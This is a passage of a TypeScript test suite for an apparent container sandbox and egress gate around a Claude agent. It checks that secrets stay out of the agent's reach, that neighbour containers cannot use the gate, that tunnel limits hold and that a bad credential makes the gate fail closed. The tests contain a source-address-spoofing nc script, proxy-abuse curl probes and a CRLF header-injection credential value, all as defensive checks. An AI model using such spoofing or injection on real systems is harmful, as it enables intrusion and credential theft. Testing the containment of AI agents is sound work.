    expect(session.steps.files!.output).toContain("/home/node/.claude");
    // So did a search of its whole filesystem and every /proc environment and command line, for the secrets' bytes.
    const hits = seen.agentScan.trim().split("\n");
    expect(hits.at(-1)).toBe("scan complete");
    expect(hits.filter((hit) => hit.includes(KEY) || hit.includes(TOKEN))).toEqual([]);
    expect(hits.filter((hit) => /^\/proc\/\d+\/environ:/.test(hit)).length).toBeGreaterThan(0);
    expect(hits.filter((hit) => hit.startsWith("/home/node/.claude/")).length).toBeGreaterThan(0);
    for (const secret of [KEY, TOKEN]) {
      for (const file of walk(session.stateDir)) expect(readFileSync(file).includes(secret), file).toBe(false);
      expect(session.run.stdout + session.run.stderr).not.toContain(secret);
      // Not in the agent container's configuration, nor in the gate's config file: only in the gate's environment.
      expect(seen.agentInspect).not.toContain(secret);
      expect(seen.gateConfig).not.toContain(secret);
    }
    expect(seen.gateConfig).toContain("GATE_SECRET_MODEL");
    const gateEnv = (JSON.parse(seen.gateInspect) as Array<{ Config: { Env: string[] } }>)[0]!.Config.Env;
    expect(gateEnv).toEqual(expect.arrayContaining([`GATE_SECRET_MODEL=${KEY}`, `GATE_SECRET_OAUTH=${TOKEN}`]));
    // The model API got them, and only ever as the injected headers.
    const carrying = world
      .events("api")
      .filter((e) => e.event === "request")
      .flatMap((e) =>
        (e.headers as string[]).flatMap((value, i, all) =>
          i % 2 === 1 && (value.includes(KEY) || value.includes(TOKEN))
            ? [`${all[i - 1]!.toLowerCase()}: ${value}`]
            : [],
        ),
      );
    expect(new Set(carrying)).toEqual(new Set([`x-api-key: ${KEY}`, `authorization: Bearer ${TOKEN}`]));
    expect(
      world
        .events("api")
        .filter((e) =>
          [KEY, TOKEN].some((secret) => String(e.body).includes(secret) || String(e.path).includes(secret)),
        ),
    ).toEqual([]);
  });
});

const UDP_PORT = 5555;
/** The agent's listener: every datagram to UDP_PORT, one line each, for 60 s. */
const UDP_LISTENER =
  `require('dgram').createSocket('udp4').on('message', (m) => console.log(String(m).trim())).bind(${UDP_PORT});` +
  "setTimeout(() => process.exit(0), 60000)";

describe("a container beside the gate, on its way out", () => {
  // The gate's egress side is shared: a user's network (CLAUDE_BOTTLE_EGRESS_NETWORK), or the engine's
  // default bridge. Whatever else runs there must not use the gate: not its credential routes, not its proxy.
  const KEY = `sk-ant-api03-${randomBytes(24).toString("base64url")}-neighbour-key`;
  const onWorld = nonce();
  const onBridge = nonce();
  let upstream: HostCanary;
  const seen: Record<"world" | "bridge", { networks: string[]; output: string }> = {
    world: { networks: [], output: "" },
    bridge: { networks: [], output: "" },
  };
  const sessions: Session[] = [];
  /** What the agent received of the datagrams a neighbour routed through the gate. */
  let routed = "";

  /** From a container on `network`, what the gate's address there answers: a route with a nonce, and its proxy. */
  const fromBeside = (gate: string, network: string, marker: string): { networks: string[]; output: string } => {
    const [inspected] = JSON.parse(execFileSync("docker", ["inspect", gate], { encoding: "utf8" })) as Array<
      Record<string, any>
    >;
    const networks = inspected!.NetworkSettings.Networks as Record<string, { IPAddress: string }>;
    const address = networks[network]?.IPAddress;
    if (!address) return { networks: Object.keys(networks), output: "" };
    const script = [
      `curl -sS -m 5 -w '\\nroute status=%{http_code}\\n' -H 'content-type: application/json' -d '{}' http://${address}:8080/model/v1/messages?${marker}=1 2>&1`,
      `curl -sS -m 5 -w '\\nproxy status=%{http_code}\\n' -x http://${address}:8080 http://allowed.test/${marker}/proxied 2>&1`,
      "true",
    ].join("; ");
    const output = execFileSync(
      "docker",
      ["run", "--rm", "--network", network, "--entrypoint", "sh", TOOLBOX_IMAGE, "-c", script],
      { encoding: "utf8" },
    );
    return { networks: Object.keys(networks), output };
  };

  const attack = (where: "world" | "bridge", marker: string, env: Record<string, string>, upstreamUrl: string) =>
    runAttack({
      env: { NEIGHBOUR_TEST_KEY: KEY, ...env },
      egress: {
        allow: ["allowed.test:80"],
        routes: [
          { name: "model", upstream: upstreamUrl, inject: { header: "x-api-key", fromEnv: "NEIGHBOUR_TEST_KEY" } },
        ],
      },
      steps: {
        // A datagram that reaches the agent is written down: nothing from the way out should ever arrive.
        ready: `(node -e "${UDP_LISTENER}" > /tmp/udp.txt 2>&1 &); echo ready`,
      },
      then: [
        { say: `neighbour ${where}` },
        { run: "i=0; while [ ! -e /tmp/.neighbour-done ] && [ $i -lt 900 ]; do sleep 0.1; i=$((i + 1)); done" },
      ],
      during: async (child, stderr) => {
        await waitFor(() => stderr().includes(`claude: neighbour ${where}`), 120_000, "the agent to wait");
        const network = where === "world" ? world.network : "bridge";
        const gate = bottleContainer(child.pid!, "gate");
        const agent = bottleContainer(child.pid!, "agent");
        seen[where] = fromBeside(gate, network, marker);
        if (where === "bridge") routed = routeThroughGate(gate, agent, marker);
        execFileSync("docker", [
          "exec",
          "-u",
          "node",
          bottleContainer(child.pid!, "agent"),
          "touch",
          "/tmp/.neighbour-done",
        ]);
      },
    });

  /**
   * A neighbour with NET_ADMIN on the default bridge routes the bottle's internal subnet through the gate's
   * address there, with a source address inside that subnet, and sends a datagram to the agent; then reads
   * what the agent received.
   */
  const routeThroughGate = (gate: string, agent: string, marker: string): string => {
    const [gateInfo, agentInfo] = JSON.parse(
      execFileSync("docker", ["inspect", gate, agent], { encoding: "utf8" }),
    ) as Array<Record<string, any>>;
    const agentNetworks = agentInfo!.NetworkSettings.Networks as Record<string, { IPAddress: string }>;
    const [internal, { IPAddress: agentIp }] = Object.entries(agentNetworks)[0]!;
    const gateOut = (gateInfo!.NetworkSettings.Networks as Record<string, { IPAddress: string }>).bridge!.IPAddress;
    const spoofed = agentIp.replace(/\.\d+$/, ".200");
    const script = [
      `ip addr add ${spoofed}/32 dev eth0`,
      `ip route add ${agentIp}/32 via ${gateOut} src ${spoofed}`,
      `for i in 1 2 3; do echo ${marker}-routed | nc -u -w1 -s ${spoofed} ${agentIp} ${UDP_PORT}; done`,
    ].join(" && ");
    execFileSync(
      "docker",
      [
        "run",
        "--rm",
        "--cap-add",
        "NET_ADMIN",
        "--network",
        "bridge",
        "--entrypoint",
        "sh",
        TOOLBOX_IMAGE,
        "-c",
        script,
      ],
      {
        encoding: "utf8",
      },
    );
    expect(internal).toMatch(/-internal$/);
    // A control from inside the internal network (the gate itself): the listener hears what does arrive.
    const send = `const s = require('dgram').createSocket('udp4'); s.send('${marker}-control', ${UDP_PORT}, '${agentIp}', () => s.close())`;
    execFileSync("docker", ["exec", gate, "node", "-e", send]);
    let heard = "";
    const until = Date.now() + 5_000;
    while (!heard.includes(`${marker}-control`) && Date.now() < until)
      heard = execFileSync("docker", ["exec", agent, "cat", "/tmp/udp.txt"], { encoding: "utf8" });
    return heard;
  };

  /** The neighbour's two connections are in egress.jsonl, and the runner warned of them. */
  const expectStrangersLogged = (session: Session): void => {
    const refused = (session.egress as unknown as Array<{ event: string; from: string }>).filter(
      (e) => e.event === "client-refused",
    );
    expect(refused).toHaveLength(2);
    expect(session.run.stderr).toContain(
      `the gate refused 2 connection(s) from outside the bottle, from ${refused[0]!.from}`,
    );
  };

  beforeAll(async () => {
    upstream = await startHostCanary();
    const bridgeGateway = execFileSync(
      "docker",
      ["network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Gateway}}"],
      { encoding: "utf8" },
    ).trim();
    sessions.push(
      ...(await Promise.all([
        attack("world", onWorld, {}, `http://${WORLD_IP.api}`),
        // No network named: the gate's way out is the engine's default bridge; its upstream a listener on the host.
        attack("bridge", onBridge, { CLAUDE_BOTTLE_EGRESS_NETWORK: "" }, `http://${bridgeGateway}:${upstream.port}`),
      ])),
    );
  });

  afterAll(async () => {
    await upstream?.close();
  });

  test("a container on the user's egress network gets no answer from the gate: no credential, no proxy", () => {
    expect(seen.world.networks).toContain(world.network);
    expect(seen.world.output).toMatch(/^route status=000$/m);
    expect(seen.world.output).toMatch(/^proxy status=000$/m);
    expectNowhere(onWorld);
    expect(world.events("api").filter((e) => JSON.stringify(e).includes(KEY))).toEqual([]);
    expect(sessions[0]!.egress.filter((e) => JSON.stringify(e).includes(onWorld))).toEqual([]);
    expectStrangersLogged(sessions[0]!);
  });

  test("the gate's way out is the engine's default bridge; a container there gets no answer from it either", () => {
    expect(seen.bridge.networks).toContain("bridge");
    expect(seen.bridge.output).toMatch(/^route status=000$/m);
    expect(seen.bridge.output).toMatch(/^proxy status=000$/m);
    expect(JSON.stringify(upstream.events)).not.toContain(onBridge);
    expect(JSON.stringify(upstream.events)).not.toContain(KEY);
    expect(sessions[1]!.egress.filter((e) => JSON.stringify(e).includes(onBridge))).toEqual([]);
    expectStrangersLogged(sessions[1]!);
  });

  test("a neighbour with NET_ADMIN that routes the internal subnet through the gate reaches nothing in the bottle", () => {
    // The gate does not forward: not even a datagram with a source inside the internal subnet gets through.
    expect(routed).toContain(`${onBridge}-control`);
    expect(routed).not.toContain(`${onBridge}-routed`);
  });
});

describe("tunnel limits", () => {
  let session: Session;

  beforeAll(async () => {
    session = await runAttack({
      egress: { allow: ["allowed.test", "allowed.test:80"], tunnelIdle: "1500ms", tunnelLifetime: "4s" },
      steps: {
        hold: [
          "cd /tmp",
          "probe hold allowed.test --every 250 --max 15000 > busy &",
          "probe hold allowed.test --max 15000 > quiet &",
          "curl -sS -m 15 -o /dev/null -w 'drip %{http_code} %{time_total}\\n' http://allowed.test/drip > drip 2>&1 &",
          "curl -sS -m 15 -o /dev/null -w 'hang %{http_code} %{time_total}\\n' http://allowed.test/hang > hang 2>&1 &",
          "wait; cat busy quiet drip hang",
        ].join("\n"),
      },
    });
  });

  test("a long-lived tunnel is closed at the lifetime limit, a quiet one at the idle limit", () => {
    const output = session.steps.hold!.output;
    const [busy, quiet] = probes(output);
    expect(busy).toMatchObject({ how: "closed" });
    expect(busy!.ms).toBeGreaterThanOrEqual(3_500);
    expect(busy!.ms).toBeLessThan(8_000);
    expect(busy!.answers).toBeGreaterThan(5);
    expect(quiet).toMatchObject({ how: "closed", answers: 1 });
    expect(quiet!.ms).toBeGreaterThanOrEqual(1_200);
    expect(quiet!.ms).toBeLessThan(3_500);
    const drip = /^drip (\d+) ([\d.]+)$/m.exec(output);
    expect(drip?.[1]).toBe("200");
    expect(Number(drip?.[2])).toBeGreaterThanOrEqual(3.5);
    expect(Number(drip?.[2])).toBeLessThan(8);
    const hang = /^hang (\d+) ([\d.]+)$/m.exec(output);
    expect(hang?.[1]).toBe("504");
    expect(Number(hang?.[2])).toBeLessThan(4);
    const closed = session.egress.map((e) => `${e.kind} ${e.closed}`).sort();
    expect(closed).toEqual(["connect idle", "connect lifetime", "http idle", "http lifetime"]);
  });
});

describe("a connection still open when claude ends", () => {
  test("is ended by the gate, and logged in egress.jsonl before the gate goes", async () => {
    const session = await runAttack({
      egress: { allow: ["allowed.test"] },
      steps: {
        open: [
          "cd /tmp",
          "probe hold allowed.test --every 250 --max 60000 > held 2>&1 &",
          // Long enough for the tunnel to open and carry a few answers; the probe prints only when it ends.
          "sleep 2",
          "echo opened",
        ].join("\n"),
      },
    });
    expect(session.steps.open!.output).toContain("opened");
    // The tunnel outlived claude: whatever ended it, the gate logged it, with what it carried.
    const held = session.egress.filter((e) => e.kind === "connect" && e.host === "allowed.test");
    expect(held).toEqual([expect.objectContaining({ decision: "allow" })]);
    expect(["shutdown", "client"]).toContain(held[0]!.closed);
    expect(held[0]!.bytesOut).toBeGreaterThan(0);
  });
});

describe("a gate that cannot apply its policy: fail closed", () => {
  /**
   * Launches a bottle expected to fail before claude runs; returns the run and every
   * process exec'd in one of its agent containers meanwhile (the engine's exec events).
   * The agent container itself may exist: it is made ready while the gate starts.
   */
  async function failedLaunch(
    env: Record<string, string>,
  ): Promise<{ run: RunnerRun; agents: string[]; box: Sandbox }> {
    const since = engineNow();
    const box = sandbox({ ...world.runnerEnv, ...env });
    boxes.push(box);
    const manifest = manifestFor(box, {
      routes: [
        {
          name: "model",
          upstream: `http://${WORLD_IP.api}`,
          inject: { header: "x-api-key", fromEnv: "SECURITY_TEST_KEY" },
          role: "anthropic",
        },
      ],
    });
    const { child, done } = startRunner(
      [
        "start",
        "attacker",
        "--manifest",
        manifest,
        "--prompt",
        fake({ steps: [{ run: "echo the agent ran" }], end: "success" }),
      ],
      box,
    );
    const run = await done;
    return { run, agents: agentExecs(child.pid, since, engineNow()), box };
  }

  const nothingLeft = (box: Sandbox): void => {
    const states = join(box.home, "state");
    expect(existsSync(states) ? readdirSync(states) : []).toEqual([]);
    expect(labelled()).toEqual({ containers: [], networks: [] });
  };

  test("a credential the gate cannot inject (a line break in it): the gate refuses to start, nothing is ever exec'd in the agent", async () => {
    const secret = nonce();
    const { run, agents, box } = await failedLaunch({ SECURITY_TEST_KEY: `sk-ant-${secret}\r\nx-injected: ${secret}` });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("the gate did not come up");
    expect(run.stderr).toContain("the agent was not started");
    expect(run.stderr).toMatch(
      /route "model": environment variable GATE_SECRET_MODEL holds characters not allowed in an HTTP header/,
    );
    expect(run.stdout + run.stderr).not.toContain(secret);
    expect(agents).toEqual([]);
    nothingLeft(box);
    expectNowhere(secret);
  });

  test("a way out that does not exist (CLAUDE_BOTTLE_EGRESS_NETWORK names no network): the launch fails, nothing is ever exec'd in the agent", async () => {
    const missing = `bottle-world-missing-${nonce()}`;
    const { run, agents, box } = await failedLaunch({
      SECURITY_TEST_KEY: "sk-ant-not-used",
      CLAUDE_BOTTLE_EGRESS_NETWORK: missing,
    });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("the gate did not come up");
    expect(run.stderr).toContain("the agent was not started");
    expect(run.stderr).toContain(missing);
    expect(run.stderr).not.toMatch(/\n\s+at /);
    expect(agents).toEqual([]);
    nothingLeft(box);
  });
});
